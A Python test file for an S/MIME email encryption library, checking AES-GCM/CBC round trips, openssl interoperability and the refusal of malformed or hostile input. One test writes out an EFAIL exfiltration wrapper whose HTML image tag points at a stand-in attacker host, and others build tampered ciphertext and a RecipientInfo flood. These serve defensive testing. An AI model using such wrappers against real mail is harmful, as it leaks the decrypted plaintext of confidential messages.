"""encrypt/decrypt: AES-GCM and AES-CBC, both ways with openssl cms, and what is refused."""

from __future__ import annotations

import base64
import contextlib
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from smime_fixtures import Identity, Pki, RunOpenssl

from mssgate.smime import (
    DecryptionError,
    EncryptionError,
    clean_entity,
    decrypt,
    encrypt,
    sign_message,
    verify_signed_message,
)

ENTITY = (
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"R\xc3\xa9sultats d'analyses: normaux.\r\n"
)
MESSAGE = (
    b"From: <dr.alice.martin@hopital-a.test>\r\n"
    b"To: <dr.bob.durand@clinique-b.test>\r\n"
    b"Subject: Resultats\r\n"
    b"MIME-Version: 1.0\r\n" + ENTITY
)


def rsa_key(identity: Identity) -> rsa.RSAPrivateKey:
    assert isinstance(identity.key, rsa.RSAPrivateKey)
    return identity.key


@pytest.mark.parametrize("mode", ["aes-gcm", "aes-cbc"])
def test_round_trip_here(pki: Pki, mode: str) -> None:
    raw = encrypt(MESSAGE, [pki.bob.cert, pki.alice.cert], mode=mode)  # type: ignore[arg-type]
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert b"From: <dr.alice.martin@hopital-a.test>" in head  # routing headers stay readable
    assert b"sultats d'analyses" not in raw
    smime_type = b"authEnveloped-data" if mode == "aes-gcm" else b"enveloped-data"
    assert b"smime-type=" + smime_type in head
    for reader in (pki.bob, pki.alice):
        assert decrypt(raw, rsa_key(reader), reader.cert) == ENTITY


@pytest.mark.parametrize("transport", ["rsa-oaep", "rsa-pkcs1v15"])
@pytest.mark.parametrize("mode", ["aes-gcm", "aes-cbc"])
def test_ours_decrypted_by_openssl(
    pki: Pki, openssl: RunOpenssl, tmp_path: Path, mode: str, transport: str
) -> None:
    path = tmp_path / "enc.eml"
    path.write_bytes(encrypt(MESSAGE, [pki.bob.cert], mode=mode, key_transport=transport))  # type: ignore[arg-type]
    out = openssl(
        "cms", "-decrypt", "-in", path, "-recip", pki.bob.cert_path, "-inkey", pki.bob.key_path
    )
    assert out.stdout == ENTITY


@pytest.mark.parametrize(
    ("cipher", "keyopts"),
    [
        ("-aes-256-gcm", []),
        ("-aes-128-gcm", []),
        ("-aes-256-gcm", ["-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"]),
        ("-aes-256-gcm", ["-keyopt", "rsa_padding_mode:oaep"]),  # OAEP with SHA-1 defaults
        ("-aes-256-cbc", []),
        ("-aes-128-cbc", []),
    ],
    ids=["gcm256", "gcm128", "gcm-oaep-sha256", "gcm-oaep-sha1", "cbc256", "cbc128"],
)
def test_openssl_encrypted_decrypted_here(
    pki: Pki, openssl: RunOpenssl, tmp_path: Path, cipher: str, keyopts: list[str]
) -> None:
    source = tmp_path / "entity.txt"
    source.write_bytes(ENTITY)
    out = tmp_path / "enc.eml"
    openssl(
        "cms",
        "-encrypt",
        cipher,
        "-binary",
        "-in",
        source,
        "-out",
        out,
        "-recip",
        pki.bob.cert_path,
        *keyopts,
    )
    assert decrypt(out.read_bytes(), rsa_key(pki.bob), pki.bob.cert) == ENTITY


def test_signed_then_encrypted_still_verifies_after_decryption(pki: Pki) -> None:
    signed = sign_message(MESSAGE, key=pki.alice.key, cert=pki.alice.cert)
    sealed = encrypt(signed, [pki.bob.cert])
    opened = decrypt(sealed, rsa_key(pki.bob), pki.bob.cert)
    # The From header travelled on the outer (encrypted) message: put it back for the check.
    outer_from = b"From: <dr.alice.martin@hopital-a.test>\r\n"
    verdict = verify_signed_message(
        outer_from + opened, trust_anchors=[pki.ca.cert], registered=[pki.alice.cert]
    )
    assert verdict.ok, verdict.detail
    assert verdict.content is not None and verdict.content.endswith(b"normaux.\r\n")


def test_wrong_recipient_cannot_decrypt(pki: Pki) -> None:
    raw = encrypt(MESSAGE, [pki.bob.cert])
    with pytest.raises(DecryptionError, match="not encrypted to this certificate"):
        decrypt(raw, rsa_key(pki.alice), pki.alice.cert)
    with pytest.raises(DecryptionError, match="cannot be decrypted"):
        decrypt(raw, rsa_key(pki.alice), pki.bob.cert)  # Bob's certificate, Alice's key


@pytest.mark.parametrize("mode", ["aes-gcm", "aes-cbc"])
def test_modified_ciphertext_is_refused(pki: Pki, mode: str) -> None:
    raw = encrypt(MESSAGE, [pki.bob.cert], mode=mode)  # type: ignore[arg-type]
    head, body = raw.split(b"\r\n\r\n", 1)
    der = bytearray(base64.b64decode(b"".join(body.split())))
    # The ciphertext is at the end of the structure (GCM: followed by the 16-byte tag).
    der[-40] ^= 0x01
    tampered = head + b"\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")
    if mode == "aes-gcm":
        with pytest.raises(DecryptionError, match="cannot be decrypted"):
            decrypt(tampered, rsa_key(pki.bob), pki.bob.cert)
    else:
        # CBC cannot detect it: the flipped block decrypts to garbage, which the well-formed
        # MIME check may or may not catch. Either way nothing but DecryptionError escapes.
        with contextlib.suppress(DecryptionError):
            decrypt(tampered, rsa_key(pki.bob), pki.bob.cert)


def test_cbc_can_be_refused(pki: Pki) -> None:
    raw = encrypt(MESSAGE, [pki.bob.cert], mode="aes-cbc")
    with pytest.raises(DecryptionError, match="CBC"):
        decrypt(raw, rsa_key(pki.bob), pki.bob.cert, allow_cbc=False)


def test_encrypted_part_wrapped_in_multipart_is_refused(pki: Pki) -> None:
    # EFAIL direct exfiltration: attacker-written parts around the ciphertext.
    sealed = encrypt(MESSAGE, [pki.bob.cert])
    part = sealed.split(b"MIME-Version: 1.0\r\n", 1)[1]
    wrapper = (
        b"From: <x@evil.test>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b'--B\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n'
        b"--B\r\n" + part + b'\r\n--B\r\nContent-Type: text/html\r\n\r\n">\r\n--B--\r\n'
    )
    with pytest.raises(DecryptionError, match="single S/MIME encrypted entity"):
        decrypt(wrapper, rsa_key(pki.bob), pki.bob.cert)


def test_signed_message_is_not_decrypted(pki: Pki) -> None:
    signed = sign_message(MESSAGE, key=pki.alice.key, cert=pki.alice.cert, detached=False)
    with pytest.raises(DecryptionError, match="not encrypted data"):
        decrypt(signed, rsa_key(pki.bob), pki.bob.cert)


def test_ec_recipient_is_refused(pki: Pki) -> None:
    with pytest.raises(EncryptionError, match="RSA"):
        encrypt(MESSAGE, [pki.carol_ec.cert])
    with pytest.raises(EncryptionError, match="at least one"):
        encrypt(MESSAGE, [])


@pytest.mark.parametrize(
    "plaintext",
    [
        b"",
        b"just some text without headers\r\n",
        b'Content-Type: multipart/mixed; boundary="Z"\r\n\r\n'
        b"--Z\r\nContent-Type: text/plain\r\n\r\nunterminated\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"@@@not base64@@@\r\n",
        b"Subject: no content type\r\n\r\nbody\r\n",
    ],
    ids=["empty", "no-headers", "unterminated-multipart", "bad-base64", "no-content-type"],
)
def test_clean_entity_refuses_ill_formed_plaintext(plaintext: bytes) -> None:
    with pytest.raises(DecryptionError):
        clean_entity(plaintext)


def test_clean_entity_keeps_a_well_formed_multipart() -> None:
    entity = (
        b'Content-Type: multipart/mixed; boundary="Z"\r\n\r\n'
        b"--Z\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
        b"--Z\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"JVBERi0xLjQK\r\n"
        b"--Z--\r\n"
    )
    assert clean_entity(entity) == entity


def test_message_without_content_type_decrypts_as_text_plain(pki: Pki) -> None:
    bare = b"From: <dr.alice.martin@hopital-a.test>\r\nSubject: x\r\n\r\nPlain words.\r\n"
    opened = decrypt(encrypt(bare, [pki.bob.cert]), rsa_key(pki.bob), pki.bob.cert)
    assert opened == b"Content-Type: text/plain; charset=us-ascii\r\n\r\nPlain words.\r\n"


def test_too_many_recipient_infos_are_refused_before_parsing(pki: Pki) -> None:
    """A peer's AuthEnvelopedData with 1,001 RecipientInfos is refused from the count alone
    (iterating would parse every one of them), even when ours is among them."""
    from asn1crypto import cms  # type: ignore[import-untyped]

    raw = encrypt(MESSAGE, [pki.bob.cert], mode="aes-gcm")
    head, body = raw.split(b"\r\n\r\n", 1)
    info = cms.ContentInfo.load(base64.b64decode(b"".join(body.split())))
    ours = info["content"]["recipient_infos"][0].dump()

    def with_infos(count: int) -> bytes:
        # The SET OF written as bytes: asn1crypto's dump(force=True) of 1,001 parsed
        # RecipientInfos took two minutes of this test's time, none of it the code's.
        content = ours * count
        size = len(content).to_bytes((len(content).bit_length() + 7) // 8, "big")
        infos = cms.RecipientInfos.load(b"\x31" + bytes([0x80 | len(size)]) + size + content)
        info["content"]["recipient_infos"] = infos
        der = info.dump()
        return head + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")

    flooded = with_infos(1001)
    with pytest.raises(DecryptionError, match="more than 1000 RecipientInfos"):
        decrypt(flooded, rsa_key(pki.bob), pki.bob.cert)
    at_the_cap = with_infos(1000)
    assert decrypt(at_the_cap, rsa_key(pki.bob), pki.bob.cert) == ENTITY
